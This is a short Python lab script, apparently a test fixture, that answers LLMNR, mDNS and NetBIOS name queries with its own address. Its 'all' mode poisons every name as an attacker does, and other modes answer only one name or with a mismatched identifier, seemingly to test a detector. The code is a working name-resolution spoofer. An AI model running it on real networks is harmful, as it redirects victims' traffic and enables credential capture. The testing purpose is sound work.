"""A neighbour that answers questions for names: `python -m tests.lab.poisoner ADDRESS HOW`.

How: `all` names, in all three protocols, as an attacker does; `own`, the name `teacher-pc` alone,
as any computer does; `wrong`, with another identifier than was asked with.
"""

from __future__ import annotations

import select
import socket
import struct
import sys

GROUPS = {5355: "224.0.0.252", 5353: "224.0.0.251"}
NBNS = 137
OWN = b"\x0ateacher-pc"


def main(address: str, how: str) -> None:
    sockets = {opened(port, address): port for port in (*GROUPS, NBNS)}
    print("answering", flush=True)
    while True:
        for ready in select.select(list(sockets), [], [])[0]:
            question, sender = ready.recvfrom(2048)
            if how == "own" and OWN not in question:
                continue
            make = netbios_answer if sockets[ready] == NBNS else dns_answer
            answer = make(question, socket.inet_aton(address))
            if how == "wrong":
                answer = bytes([answer[0] ^ 0xFF]) + answer[1:]
            ready.sendto(answer, sender)


def opened(port: int, address: str) -> socket.socket:
    found = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    found.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    found.bind(("", port))
    if port in GROUPS:
        member = socket.inet_aton(GROUPS[port]) + socket.inet_aton(address)
        found.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    return found


def dns_answer(question: bytes, address: bytes) -> bytes:
    """RFC 1035: the question itself, and one A record that points back to its name."""
    head = question[:2] + struct.pack("!5H", 0x8000, 1, 1, 0, 0)
    return head + question[12:] + struct.pack("!HHHIH", 0xC00C, 1, 1, 30, 4) + address


def netbios_answer(question: bytes, address: bytes) -> bytes:
    """RFC 1002 section 4.2.13."""
    head = question[:2] + struct.pack("!5H", 0x8500, 0, 1, 0, 0)
    name = question[12:46]
    return head + name + struct.pack("!HHIHH", 0x20, 1, 165, 6, 0) + address


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
